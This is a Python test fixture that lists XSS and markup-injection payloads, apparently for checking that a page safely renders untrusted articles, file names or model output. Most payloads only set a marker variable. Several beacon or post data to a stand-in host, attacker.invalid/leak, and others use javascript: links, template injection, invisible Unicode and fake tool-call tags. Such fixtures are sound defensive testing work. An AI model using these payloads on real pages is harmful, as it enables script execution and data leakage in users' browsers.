"""What a hostile article, question, file name or model might say to a page.

``window.__xss`` tells that something ran; a request with "leak" in it, that something was fetched.
"""

from __future__ import annotations

_X = "window.__xss=1"
_OUT = "http://attacker.invalid/leak"

PAYLOADS = (
    # scripts and handlers
    f"<script>{_X}</script>",
    f"<ScRiPt >{_X}</sCrIpT >",
    f"<script src='{_OUT}.js'></script>",
    f'<img src=x onerror="{_X}">',
    f"<img src=x onerror={_X}//",
    f"<svg onload={_X}></svg>",
    f"<svg><script>{_X}</script></svg>",
    f"<svg><animate onbegin={_X} attributeName=x dur=1s>",
    f"<math><mtext><script>{_X}</script></mtext></math>",
    f"<details open ontoggle={_X}>open</details>",
    f"<input autofocus onfocus={_X}>",
    f"<body onload={_X}>",
    f'<iframe srcdoc="<script>parent.{_X[7:]}</script>"></iframe>',
    f'<object data="data:text/html,<script>{_X}</script>"></object>',
    f"<template><script>{_X}</script></template>",
    f'"><script>{_X}</script><a title="',
    f"' onmouseover='{_X}' x='",
    f"</span></div></textarea></title><script>{_X}</script>",
    f"<!--><script>{_X}</script-->",
    f"<![CDATA[<script>{_X}</script>]]>",
    # links
    f"[click](javascript:{_X})",
    f'<a href="javascript:{_X}">click</a>',
    f"[click](data:text/html,<script>{_X}</script>)",
    f"[ref]: javascript:{_X} 'title' [ref]",
    f"<javascript:{_X}>",
    f"{_OUT}.html and www.attacker.invalid/leak",
    "mail leak@attacker.invalid now",
    f'[1](#cite-a1f0-00000000-0-9-1 "{_OUT}")',
    # beacons
    f"![pixel]({_OUT}.png)",
    f"![pixel][p] [p]: {_OUT}.png",
    "![own](/healthz?leak)",
    f"<img src={_OUT}.gif>",
    f"<picture><source srcset={_OUT}.webp><img></picture>",
    f"<video src={_OUT}.mp4 poster={_OUT}.jpg autoplay></video>",
    f"<audio src={_OUT}.mp3 autoplay></audio>",
    f"<link rel=stylesheet href={_OUT}.css>",
    f"<style>@import '{_OUT}.css'; body{{background:url({_OUT}.png)}}</style>",
    f'<p style="background:url({_OUT}.png)">styled</p>',
    f"<svg><image href={_OUT}.png /></svg>",
    f'<meta http-equiv=refresh content="0;url={_OUT}">',
    f"<base href={_OUT}/>",
    # forms
    f"<form action={_OUT}><input name=q><button>Sign in</button></form>",
    f"<button formaction=javascript:{_X}>go</button>",
    # other languages that a page may speak
    "```mermaid graph TD; A[<img src=x onerror=window.__xss=1>]-->B ```",
    f"`<img src=x onerror={_X}>` ``<script>{_X}</script>``",
    f"    <script>{_X}</script>",
    f"$\\href{{javascript:{_X}}}{{x}}$ $$\\unicode{{x}}$$ \\(x\\)",
    f"${{{_X}}} #{{{_X}}} {{{{constructor.constructor('{_X}')()}}}} <%= {_X} %>",
    f"&lt;script&gt;{_X}&lt;/script&gt; &#60;img src=x onerror={_X}&#62;",
    f"\\<img src=x onerror={_X}\\> \\`<script>{_X}</script>\\`",
    f"| a | b | |---|---| | <script>{_X}</script> | ![x]({_OUT}.png) |",
    "# heading > quote - list 1. list *** --- ~~gone~~ **bold** _it_",
    f"<think>{_X}</think> <tool_call>{_X}</tool_call> [^1]: {_OUT}",
    # what cannot be seen
    "\u202egnp.exe\u202c and \u2066isolated\u2069 and \u200bzero\ufeffwidth",
    "\U000e0041\U000e0042tagged \x1b[31mred\x1b[0m bell\x07",
)
